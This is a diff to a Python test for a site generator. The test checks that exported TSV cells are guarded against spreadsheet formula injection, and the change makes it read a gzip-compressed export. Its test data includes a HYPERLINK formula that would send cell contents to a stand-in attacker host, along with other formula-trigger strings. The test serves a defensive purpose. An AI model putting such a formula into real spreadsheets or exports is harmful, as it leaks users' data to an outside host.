@@ -282,6 +282,7 @@ def test_base_url_must_be_a_plain_absolute_http_url(tmp_path: Path) -> None:
 
 def test_tsv_cells_are_guarded_and_read_back_exactly(tmp_path: Path) -> None:
     import csv
+    import gzip
 
     texts = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1 more", "-5 percent", "@SUM(A1)",
              '"Quoted" at the start', "Tab\tinside"]
@@ -291,7 +292,7 @@ def test_tsv_cells_are_guarded_and_read_back_exactly(tmp_path: Path) -> None:
                                           speech(body=f"::: zh\n{zh}\n:::\n\n::: en\n{en}\n:::\n")})
     code, printed = run("--root", str(root))
     assert code == 0, printed
-    with (root / "_site" / "exports" / "aligned.tsv").open(encoding="utf-8", newline="") as f:
+    with gzip.open(root / "_site" / "exports" / "aligned.tsv.gz", "rt", encoding="utf-8", newline="") as f:
         rows = list(csv.reader(f, dialect="excel-tab"))
     assert [r[2] for r in rows[1:]] == ["'" + texts[0], "'+1 more", "'-5 percent", "'@SUM(A1)",
                                         '"Quoted" at the start', "Tab inside"]
